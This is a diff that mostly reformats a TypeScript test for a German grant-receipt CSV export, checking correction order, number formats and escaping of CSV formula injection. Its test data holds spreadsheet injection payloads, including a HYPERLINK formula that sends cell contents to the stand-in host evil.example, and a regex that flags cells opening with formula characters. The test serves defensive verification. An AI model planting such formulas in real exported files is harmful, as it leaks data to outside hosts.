@@ -16,12 +16,12 @@ function parseGermanCsv(text: string): string[][] {
   for (let i = 1; i < text.length; i++) {
     const c = text[i];
     if (quoted) {
-      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      if (c === '"' && text[i + 1] === '"') ((cell += '"'), i++);
       else if (c === '"') quoted = false;
       else cell += c;
     } else if (c === '"') quoted = true;
-    else if (c === ';') row.push(cell), (cell = '');
-    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
+    else if (c === ';') (row.push(cell), (cell = ''));
+    else if (c === '\r' && text[i + 1] === '\n') (row.push(cell), rows.push(row), (row = []), (cell = ''), i++);
     else cell += c;
   }
   return rows;
@@ -44,7 +44,13 @@ describe('proof receipts: order of corrections, CSV injection, German dates', ()
     t = await createTestApp();
     p = await createFundedProject(t.orm, { plan: { 2022: { A: '100000.00', B1: '20000.00' }, 2023: { A: '100000.00' } } });
     const book = async (fields: Record<string, unknown>) => {
-      const result = await t.gqlAs(p.finance, RECORD, { input: { idempotencyKey: key(), projectId: p.projectId, receipt: receipt(p.category.A, { invoiceDate: '2022-05-01', paymentDate: '2022-05-10', ...fields }) } });
+      const result = await t.gqlAs(p.finance, RECORD, {
+        input: {
+          idempotencyKey: key(),
+          projectId: p.projectId,
+          receipt: receipt(p.category.A, { invoiceDate: '2022-05-01', paymentDate: '2022-05-10', ...fields }),
+        },
+      });
       expect(result.errors).toBeUndefined();
       return result.data!.recordExpenditure;
     };
@@ -56,18 +62,42 @@ describe('proof receipts: order of corrections, CSV injection, German dates', ()
           idempotencyKey: key(),
           expenditureId: original.id,
           reason: `Gutschrift ${i}`,
-          replacement: receipt(p.category.A, { receiptNumber: `K-${i}`, invoiceDate: '2022-05-01', paymentDate: '2022-05-10', grossAmount: '90.00', eligibleAmount: '90.00' }),
+          replacement: receipt(p.category.A, {
+            receiptNumber: `K-${i}`,
+            invoiceDate: '2022-05-01',
+            paymentDate: '2022-05-10',
+            grossAmount: '90.00',
+            eligibleAmount: '90.00',
+          }),
         },
       });
       expect(reversed.errors).toBeUndefined();
       chains.push(`K-${i}`);
     }
-    await book({ receiptNumber: 'X-1', payee: '=HYPERLINK("http://evil.example/?"&A1;"Klick")', purpose: '+SUM(1;2)', paymentDate: '2022-06-01' });
+    await book({
+      receiptNumber: 'X-1',
+      payee: '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
+      purpose: '+SUM(1;2)',
+      paymentDate: '2022-06-01',
+    });
     await book({ receiptNumber: 'X-2', payee: '-2+3', purpose: '@cmd', paymentDate: '2022-06-02' });
-    await book({ receiptNumber: 'V-1', grossAmount: '119.00', ineligibleAmount: '19.00', eligibleAmount: '100.00', ineligibleReason: 'Vorsteuer abzugsfähig', paymentDate: '2022-06-03' });
-    const files = (await t.gqlAs(p.finance, EXPORT, { projectId: p.projectId, kind: 'INTERIM', fiscalYear: 2022, asOf: AS_OF })).data!.proofExport.files;
+    await book({
+      receiptNumber: 'V-1',
+      grossAmount: '119.00',
+      ineligibleAmount: '19.00',
+      eligibleAmount: '100.00',
+      ineligibleReason: 'Vorsteuer abzugsfähig',
+      paymentDate: '2022-06-03',
+    });
+    const files = (await t.gqlAs(p.finance, EXPORT, { projectId: p.projectId, kind: 'INTERIM', fiscalYear: 2022, asOf: AS_OF })).data!
+      .proofExport.files;
     const auth = await t.auth(p.finance);
-    belegliste = (await t.http().get(files.find((f: any) => f.name.endsWith('-belegliste.csv')).url).set(auth)).text;
+    belegliste = (
+      await t
+        .http()
+        .get(files.find((f: any) => f.name.endsWith('-belegliste.csv')).url)
+        .set(auth)
+    ).text;
     streamed = (await t.http().get(`/exports/projects/${p.projectId}/receipts.csv?fiscalYear=2022&asOf=${AS_OF}`).set(auth)).text;
   }, 300_000);
   afterAll(() => t.close());
@@ -88,7 +118,7 @@ describe('proof receipts: order of corrections, CSV injection, German dates', ()
     const rows = parseGermanCsv(belegliste);
     const x1 = rows.find((r) => r[1] === 'X-1')!;
     const x2 = rows.find((r) => r[1] === 'X-2')!;
-    expect([x1[5], x1[6], x2[5], x2[6]]).toEqual(["'=HYPERLINK(\"http://evil.example/?\"&A1;\"Klick\")", "'+SUM(1;2)", "'-2+3", "'@cmd"]);
+    expect([x1[5], x1[6], x2[5], x2[6]]).toEqual(['\'=HYPERLINK("http://evil.example/?"&A1;"Klick")', "'+SUM(1;2)", "'-2+3", "'@cmd"]);
     for (const row of rows.slice(1)) for (const cell of [row[5], row[6]]) expect(cell ?? '').not.toMatch(/^[=+\-@\t\r]/);
     expect(x1.slice(7, 10)).toEqual(['119,00', '0,00', '119,00']);
     expect(rows.find((r) => r[0] === 'Gesamt')![7]).toMatch(/^-?\d+,\d{2}$/);
@@ -101,12 +131,16 @@ describe('proof receipts: order of corrections, CSV injection, German dates', ()
   });
 
   it('keeps the reason on the receipt, readable through GraphQL', async () => {
-    const result = await t.gqlAs(p.finance, `query($projectId: ID!) { expenditures(projectId: $projectId, first: 50) { nodes { receiptNumber ineligibleReason } } }`, { projectId: p.projectId });
+    const result = await t.gqlAs(
+      p.finance,
+      `query($projectId: ID!) { expenditures(projectId: $projectId, first: 50) { nodes { receiptNumber ineligibleReason } } }`,
+      { projectId: p.projectId },
+    );
     expect(result.errors).toBeUndefined();
     expect(result.data!.expenditures.nodes.find((n: any) => n.receiptNumber === 'V-1').ineligibleReason).toBe('Vorsteuer abzugsfähig');
   });
 
-  it('streams the same bytes as the proof\'s Belegliste', () => {
+  it("streams the same bytes as the proof's Belegliste", () => {
     expect(streamed).toBe(belegliste);
   });
 });
